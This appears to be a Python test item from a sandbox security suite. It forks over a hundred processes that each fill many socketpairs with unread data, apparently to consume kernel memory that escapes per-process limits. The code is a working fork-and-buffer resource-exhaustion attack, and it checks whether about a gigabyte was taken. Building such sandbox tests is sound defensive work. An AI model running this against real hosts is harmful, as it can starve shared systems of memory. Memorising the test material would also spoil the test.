"""Fills sockets that nobody reads from in a hundred processes, few in each, to use memory that no process has."""

# /// attack
# ran = ["before total"]
# seen = ['your code (took more than|ran for longer)']
# opened = { "kernel's memory" = ["took what the sandbox keeps from it"] }
# ///
# %% before total
import os
import socket
import struct
import time

MOST = 1 << 30  # of data, which take more
SENT = 0


def filled(pairs):
    """Return how many bytes these sockets took."""
    sent = 0
    for end in (end for pair in pairs for end in pair):
        end.setblocking(False)
        try:
            while True:
                sent += end.send(bytes(1 << 16))
        except OSError:
            pass
    return sent


if filled([socket.socketpair()]) > 100_000:
    ran("before total")


# %% after total
told, tell = os.pipe()
started = 0
for _ in range(110):
    try:
        if os.fork() == 0:
            kept = [socket.socketpair() for _ in range(25)]
            os.write(tell, struct.pack("q", filled(kept)))
            time.sleep(30)
            os._exit(0)
    except OSError:
        break
    started += 1
for _ in range(started):
    SENT += struct.unpack("q", os.read(told, 8))[0]


# %% after scaled
time.sleep(2 if SENT else 0)
if SENT >= MOST:
    print("took " + ATTACK["process_tag"])
